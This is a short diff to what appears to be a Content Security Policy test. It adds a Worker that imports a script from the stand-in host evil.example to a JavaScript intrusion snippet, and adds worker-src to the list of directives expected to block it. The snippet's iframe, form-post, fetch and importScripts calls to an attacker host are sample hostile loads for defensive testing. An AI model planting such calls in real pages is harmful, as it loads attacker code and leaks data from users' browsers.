@@ -21,9 +21,11 @@ INTRUDE = """() => {
   add("iframe", { src: "http://evil.example/" });
   add("form", { action: "http://evil.example/", method: "post" }).submit();
   fetch("http://evil.example/").catch(() => {});
+  new Worker(URL.createObjectURL(new Blob(["importScripts('http://evil.example/')"])));
 }"""
 STOPPED = {
     "script-src-elem",
+    "worker-src",
     "style-src-elem",
     "img-src",
     "frame-src",
